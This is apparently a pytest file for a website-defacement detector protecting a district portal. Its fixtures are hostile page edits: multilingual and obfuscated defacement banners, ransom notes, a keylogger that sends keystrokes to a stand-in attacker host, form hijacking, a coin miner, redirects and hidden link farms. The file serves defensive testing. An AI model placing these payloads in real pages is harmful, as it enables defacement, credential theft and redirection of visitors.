"""Attacks of many kinds on a district's portal, written for this test: what each argues for."""

import base64

import pytest

from sentinel.core.verdict import Verdict
from support.district import END, HEADING, LEAD, NEWS, PAGE, TITLE, judged, placed, seen, swapped

GRAVE = {Verdict.DEFACED}
NOTICED = {Verdict.DEFACED, Verdict.SUSPECT}


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def codes(text: str) -> str:
    return ",".join(str(ord(char)) for char in text)


def percent(text: str) -> str:
    return "".join(f"%{byte:02x}" for byte in text.encode())


def script(code: str) -> str:
    return placed(END, f"<script>{code}</script>")


def heading(text: str) -> str:
    return swapped(HEADING, f"{text}</h1>")


def lead(text: str) -> str:
    return swapped(LEAD, text)


CLAIM = "Hacked by Velvet Owl"
WHOLE = {
    "one line": f"<h1>{CLAIM}</h1>",
    "plain text": f"{CLAIM}\nno backups, no mercy\n",
    "tiny": "pwned",
    "black page with a picture": "<body bgcolor=black><img src=/x/owl.gif></body>",
    "video alone": "<video autoplay loop src=/v.mp4></video>",
    "frame alone": '<iframe src="https://velvet-owl.example/" width=100% height=100%></iframe>',
    "music and a poem": "<embed src=a.mid><p>the night is long and the river is cold<p>we watch",
    "ASCII art": "<pre>" + "\n".join(["#  #  ##  ###  ##", "#### #  # #   # #"] * 6) + "</pre>",
    "empty with a background": '<body style="background:url(/b.jpg)"></body>',
    "SVG text": f'<svg xmlns="http://www.w3.org/2000/svg"><text x=1 y=20>{CLAIM}</text></svg>',
    "letters in cells": "<table><tr>"
    + "".join(f"<td>{c}</td>" for c in "HACKEDBYOWL")
    + "</tr></table>",
    "letters set apart": "<h1>H A C K E D   B Y   O W L</h1>",
    "leet": "<h1>h4x0r3d by v3lv3t 0wl</h1>",
    "Cyrillic look-alikes": "<h1>\u041d\u0430\u0441k\u0435d by Velvet Owl</h1>",
    "full width letters": "<h1>Ｈａｃｋｅｄ ｂｙ Ｏｗｌ</h1>",
    "mathematical letters": "<h1>𝐇𝐚𝐜𝐤𝐞𝐝 𝐛𝐲 𝐎𝐰𝐥</h1>",
    "combining marks": "<h1>H̷a̵c̶k̷e̸d̶ b̵y̷ O̸w̶l</h1>",
    "marquee": "<marquee>Velvet Owl was here, admin get a job</marquee>",
    "ransom": "<h1>Your files have been encrypted</h1><p>Send 2 BTC to the address below to get "
    "back your data. You have 72 hours to pay.</p>",
    "hacktivists without the word": "<h1>Operation Silent Harvest</h1><p>To the government: you "
    "sold our river. We do not forgive, we do not forget. Expect us.</p>",
    "polite researcher": "<h1>Hello admin</h1><p>Your site is vulnerable. I found a bug in your "
    "upload form. Nothing was deleted. Contact me for the fix.</p>",
    "slogan": "<h1>Free Kashmir</h1><p>Long live the resistance</p>",
    "Hindi": "<h1>यह वेबसाइट हैक कर ली गई है</h1>",
    "Urdu": "<h1>یہ ویب سائٹ ہیک ہو چکی ہے</h1>",
    "Bengali": "<h1>এই সাইটটি হ্যাক করা হয়েছে</h1>",
    "Tamil": "<h1>இந்த தளம் ஹேக் செய்யப்பட்டது</h1>",
    "Arabic": "<h1>تم اختراق الموقع من قبل البومة</h1>",
    "Turkish": "<h1>Bu site Kadife Baykuş tarafından hacklendi</h1>",
    "Indonesian": "<h1>Situs ini telah diretas oleh Burung Hantu</h1>",
    "Portuguese": "<h1>Este site foi invadido por Coruja</h1>",
    "Russian": "<h1>Сайт взломан группой Сова</h1>",
    "Chinese": "<h1>此站已被猫头鹰入侵</h1>",
    "Spanish": "<h1>Sitio hackeado por Búho</h1>",
    "French": "<h1>Site piraté par le Hibou</h1>",
    "victim's title kept": f"{TITLE}</title><h1>Sonapur</h1><img src=/x.gif><p>greetz to all owls",
    "victim's title, emblem and footer kept, wordless": f"{TITLE}</title><body bgcolor=black>"
    '<img src="/images/emblem.png"><img src=/owl.gif><p>Sonapur District Administration, '
    "Collectorate Road. Content owned by the district administration.</p>",
    "written by a script": "<script>document.write(unescape('"
    + percent(f"<h1>{CLAIM}</h1>")
    + "'))</script>",
    "written from base64": f"<script>document.write(atob('{b64(f'<h1>{CLAIM}</h1>')}'))</script>",
    "written from numbers": f"<script>document.write(String.fromCharCode({codes(CLAIM)}))</script>",
    "UTF-16": f"<h1>{CLAIM}</h1>".encode("utf-16"),
    "an error page that claims": f"<title>404 Not Found</title><h1>Not Found</h1><p>{CLAIM}</p>",
    "seized": "<h1>This website has been seized by the Velvet Owl Cyber Army</h1>",
    "casino": "<title>Slot gacor online casino</title><h1>Judi online</h1>"
    + "".join(f'<a href="https://g{n}.example/">slot gacor {n}</a>' for n in range(20)),
}


@pytest.mark.parametrize("name", WHOLE)
def test_a_page_that_was_replaced_is_defaced(name: str) -> None:
    found = judged(WHOLE[name])
    assert found.verdict in GRAVE, seen(found)
    assert found.score >= 0.7
    assert found.rule.startswith("C")


PARTS_DEFACED = {
    "heading": heading(CLAIM),
    "heading, pwned": heading("pwn3d by 0wl"),
    "heading, the site's name": heading("Sonapur District hacked"),
    "heading, addressed": heading("Your site has been hacked, admin"),
    "title": swapped(TITLE, f"<title>{CLAIM}"),
    "title, dash": swapped(TITLE, "<title>Sonapur District - Hacked!"),
    "lead": lead(CLAIM + "."),
    "lead, boast": lead("We hacked your server, admin. Greetz to all owls."),
    "news item": swapped(NEWS, f"{NEWS}<li>{CLAIM}</li>"),
    "last line": swapped("room twelve.", f"room twelve.<br>{CLAIM}"),
    "own paragraph": placed("<h2>News", f"<p>{CLAIM} | we are watching</p>"),
    "marquee": placed("<h1>", "<marquee>0wned by Velvet Owl</marquee>"),
    "letters in elements": heading("<b>H</b><i>a</i><b>c</b><i>k</i><b>e</b><i>d</i> by Owl"),
    "leet sentence": lead("y0ur s3cur1ty 1s d34d, w3 4r3 th3 0wls"),
    "Hindi": heading("यह साइट हैक कर ली गई है"),
    "Arabic": heading("تم اختراق الموقع"),
    "alert": script(f"alert('{CLAIM}')"),
    "document.title": script(f"document.title='{CLAIM}'"),
    "written in pieces": script("document.write('Hac' + 'ked by ' + 'Velvet Owl')"),
    "written from base64": script(f"document.write(atob('{b64(CLAIM)}'))"),
    "written from escapes": script("document.body.innerHTML='\\x48acked by Velvet Owl'"),
    "written from numbers": script(f"document.write(String.fromCharCode({codes(CLAIM)}))"),
    "written from %-codes": script(f"document.write(unescape('{percent(CLAIM)}'))"),
    "CSS content": placed("</head>", "<style>body::before{content:'Hacked by Owl'}</style>"),
    "CSS content in escapes": placed(
        "</head>", "<style>h1::after{content:'\\0048 acked by Velvet Owl'}</style>"
    ),
    "text of a picture": placed("<h2>News", f'<img src="/x.png" alt="{CLAIM}">'),
    "placeholder": swapped("Search the portal", CLAIM),
    "description": swapped("Official portal of the district administration of Sonapur", CLAIM),
    "JSON-LD": placed(
        "</head>", f'<script type="application/ld+json">{{"name": "{CLAIM}"}}</script>'
    ),
    "comment": placed("<h2>News", f"<!-- {CLAIM} -->"),
    "onload": swapped("<body>", f"<body onload=\"alert('{CLAIM}')\">"),
    "javascript address": placed(END, f"<a href=\"javascript:alert('{CLAIM}')\">x</a>"),
    "frame of data": placed(END, f'<iframe src="data:text/html;base64,{b64(CLAIM)}"></iframe>'),
    "picture of SVG data": placed(
        "<h2>News",
        f'<img src="data:image/svg+xml;base64,{b64(f"<svg><text>{CLAIM}</text></svg>")}">',
    ),
    "note to the administrator": placed(
        "<h2>News", "<p>Dear admin, your server is vulnerable, patch your system.</p>"
    ),
    "ransom note": placed(
        "<h1>", "<h1>We have stolen your database. Send 1 BTC to restore your data.</h1>"
    ),
}


@pytest.mark.parametrize("name", PARTS_DEFACED)
def test_a_claim_on_a_page_that_stands_is_defaced(name: str) -> None:
    found = judged(PARTS_DEFACED[name])
    assert found.verdict in GRAVE, seen(found)


PARTS_NOTICED = {
    "slogan in the heading": heading("Free Palestine"),
    "was here": placed("<h2>News", "<p>velvet owl was here</p>"),
    "owned": heading("Owned by Velvet Owl"),
    "broken into": lead("Velvet Owl broke into your server last night, admin."),
    "headline": swapped(NEWS, f"{NEWS}<li><a href='/x'>{CLAIM}</a></li>"),
    "movement": heading("We are Legion. Expect us."),
    "title of other words": swapped(TITLE, "<title>Velvet Owl Collective"),
    "researcher": placed("<h2>News", "<p>i am a security researcher, your site is insecure</p>"),
    "Bengali in the text": placed("<h2>News", "<p>সাইটটি হ্যাক করা হয়েছে</p>"),
}


@pytest.mark.parametrize("name", PARTS_NOTICED)
def test_what_may_be_a_claim_is_at_least_suspect(name: str) -> None:
    found = judged(PARTS_NOTICED[name])
    assert found.verdict in NOTICED, seen(found)
    assert found.score >= 0.3


def test_a_page_equals_itself_however_hostile() -> None:
    assert judged(PAGE).verdict is Verdict.INTACT


def foreign(tag: str) -> str:
    return f'<{tag} src="https://cdn.velvet-owl.example/o.js"></{tag}>'


CODE = {
    "foreign script, and a claim elsewhere": (
        placed(END, f"{foreign('script')}<h2>Hacked by Night Crew</h2>"),
        "C2",
    ),
    "foreign frame of no size": (
        placed(END, '<iframe src="//velvet-owl.example/" width=0 height=0></iframe>'),
        "C8",
    ),
    "script element written from base64": (
        script(f"document.write(atob('{b64(foreign('script'))}'))"),
        "C8",
    ),
    "packed": (script("eval(function(p,a,c,k,e,d){return p}('0 1',2,2,'a|b'.split('|')))"), "C9"),
    "miner": (script("var m=new CoinHive.Anonymous('k');m.start()"), "C9"),
    "handler in escapes": (
        swapped("<body>", f"<body onload=\"eval(unescape('{percent('alert(1)' * 12)}'))\">"),
        "C9",
    ),
    "key logger": (
        script(
            "document.onkeypress=function(e){new Image().src='https://velvet-owl.example/?'+e.key}"
        ),
        "C10",
    ),
    "form to a foreign host": (
        swapped('action="/search"', 'action="https://velvet-owl.example/take"'),
        "C10",
    ),
    "refresh": (
        placed("</head>", '<meta http-equiv=refresh content="9;url=https://velvet-owl.example/">'),
        "C11",
    ),
    "redirect after a while": (
        script("setTimeout(function(){location.href='https://velvet-owl.example/'},9000)"),
        "C11",
    ),
    "redirect on load": (
        swapped("<body>", "<body onload=\"window.location='https://velvet-owl.example/'\">"),
        "C11",
    ),
    "base": (placed("</head>", '<base href="https://velvet-owl.example/">'), "C11"),
    "spam title": (swapped(TITLE, "<title>Slot gacor | Sonapur District"), "C12"),
    "Japanese spam title": (swapped(TITLE, "<title>激安 スーパーコピー 通販"), "C12"),
    "spam description": (
        swapped("Official portal of the district", "Online casino, judi online, free spins of"),
        "C12",
    ),
    "hidden links": (
        placed(
            END,
            '<div style="position:absolute;left:-9999px">'
            + "".join(f'<a href="https://pill{n}.example/">x</a>' for n in range(5))
            + "</div>",
        ),
        "C13",
    ),
    "overlay of a foreign picture": (
        placed(
            END,
            '<div style="position:fixed;width:100%;height:100%;'
            'background:url(https://velvet-owl.example/o.png)"></div>',
        ),
        "C15",
    ),
}


@pytest.mark.parametrize("name", CODE)
def test_hostile_code_on_a_page_that_stands_is_defaced_by_its_rule(name: str) -> None:
    after, rule = CODE[name]
    found = judged(after)
    assert (found.verdict, found.rule) == (Verdict.DEFACED, rule), seen(found)


CODE_NOTICED = {
    "foreign script": placed(END, foreign("script")),
    "script of anybody's host": placed(
        END, '<script src="https://raw.githubusercontent.com/o/o/x.js"></script>'
    ),
    "loader": script("var s=document.createElement('script');s.src='//velvet-owl.example/l.js'"),
    "script after the end": f"{PAGE}<script src=/js/x.js></script>",
    "script before the beginning": f"<script>var a=1</script>{PAGE}",
    "tag manager": placed(
        END, '<script src="https://www.googletagmanager.com/gtm.js?id=GTM-1"></script>'
    ),
    "library that anybody may publish": placed(
        END, '<script src="https://cdn.jsdelivr.net/gh/o/o/x.js"></script>'
    ),
    "overlay": placed(END, '<div style="position:fixed;width:100%;height:100%"></div>'),
    "page hidden": swapped("<body>", '<body style="display:none">'),
    "icon of another host": swapped("/images/favicon.ico", "https://velvet-owl.example/f.ico"),
    "link farm": placed(
        END, "".join(f'<a href="https://farm{n}.example/">{n}</a>' for n in range(30))
    ),
    "title in other letters": swapped(TITLE, "<title>ブランド時計の専門店です"),
    "a script that calls a strange host": script("fetch('https://velvet-owl.example/p')"),
}


@pytest.mark.parametrize("name", CODE_NOTICED)
def test_unusual_code_is_at_least_suspect(name: str) -> None:
    found = judged(CODE_NOTICED[name])
    assert found.verdict in NOTICED, seen(found)


def test_a_setting_that_names_a_host_and_calls_nothing_is_an_edit() -> None:
    found = judged(script("var settings={docs:'https://manual.vendor.example/start'};"))
    assert found.verdict is Verdict.EDITED, seen(found)
    assert found.rule == "E2"
